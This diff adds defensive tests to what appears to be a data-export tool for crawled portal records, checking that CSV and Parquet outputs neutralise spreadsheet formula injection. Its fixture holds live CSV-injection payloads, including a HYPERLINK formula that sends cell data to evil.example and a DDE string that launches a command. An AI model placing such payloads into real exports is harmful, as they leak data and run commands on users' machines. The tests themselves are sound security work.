@@ -216,3 +216,53 @@ def test_wide_parquet_export_of_one_template_is_the_named_file(crawled):
         assert {key: row[key] for key in stat_keys("2021")} == {
             key: rec["stats"].get(key) for key in stat_keys("2021")}
     assert not list(tmp_path.glob("t2021.*.parquet"))
+
+
+# -- neutral output: portal text never runs as a spreadsheet formula --------------------
+HOSTILE_TEXT = {
+    "title": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
+    "agency": "+cmd|' /C calc'!A0",
+    "index_no": "-2+3",
+    "publisher": "@SUM(1+1)",
+    "document_url": "\tlooks blank",
+    "portal": "\r=1+1",
+}
+
+
+def hostile_record() -> dict:
+    hostile = record(title=HOSTILE_TEXT["title"], agency=HOSTILE_TEXT["agency"],
+                     portal=HOSTILE_TEXT["portal"])
+    hostile["metadata"] = {**hostile["metadata"], "index_no": HOSTILE_TEXT["index_no"],
+                           "publisher": HOSTILE_TEXT["publisher"]}
+    hostile["document"] = {"url": HOSTILE_TEXT["document_url"]}
+    return hostile
+
+
+def test_csv_text_cells_that_start_a_formula_get_an_apostrophe_numbers_stay_numbers():
+    out = io.StringIO()
+    tabular.write_csv(tabular.flat_table([hostile_record()]), out)
+    [row] = read_csv(out.getvalue())
+    for column, text in HOSTILE_TEXT.items():
+        assert row[column] == "'" + text, column
+    assert row["warc_offset"] == "80108" and row["year"] == "2022"
+    assert json.loads(row["stats"])["applications.granted.total"] == 0
+    assert tabular.neutral_text("＝1+1") == "'＝1+1"  # full width, as a Chinese IME types it
+    assert tabular.neutral_text("临海市-2022") == "临海市-2022"
+
+
+def test_wide_csv_negative_numbers_stay_numbers():
+    negative = record()
+    negative["stats"] = {**negative["stats"], "active.fees.amount": -3.5}
+    out = io.StringIO()
+    tabular.write_csv(tabular.wide_tables([negative])["2021"], out)
+    [row] = read_csv(out.getvalue())
+    assert row["active.fees.amount"] == "-3.5"
+
+
+def test_parquet_text_cells_are_neutral_and_typed_columns_untouched(tmp_path):
+    path = tmp_path / "out.parquet"
+    tabular.write_parquet(tabular.flat_table([hostile_record()]), path)
+    [row] = pq.read_table(path).to_pylist()
+    for column, text in HOSTILE_TEXT.items():
+        assert row[column] == "'" + text, column
+    assert row["warc_offset"] == 80108 and row["year"] == 2022
